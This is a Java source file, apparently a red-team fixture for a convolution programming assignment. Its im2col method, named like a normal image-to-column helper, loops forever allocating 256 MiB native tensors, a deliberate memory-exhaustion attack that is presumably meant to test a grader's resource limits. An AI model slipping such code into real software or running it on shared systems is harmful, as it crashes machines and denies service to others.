package kadai.assignments.conv;

import ai.djl.ndarray.NDArray;
import ai.djl.ndarray.types.Shape;
import java.util.ArrayList;
import java.util.List;

/** Red-team fixture: allocates native tensor memory (outside the Java heap) without end. */
public final class ConvOps {

    private ConvOps() {
    }

    public static int outputSize(int in, int filter, int stride, int pad) {
        return (in + 2 * pad - filter) / stride + 1;
    }

    private static final List<NDArray> HOARD = new ArrayList<>();

    public static NDArray im2col(NDArray x, int fh, int fw, int stride, int pad) {
        while (true) {
            HOARD.add(x.getManager().ones(new Shape(32 << 20), ai.djl.ndarray.types.DataType.FLOAT64)); // 256 MiB each
        }
    }

}
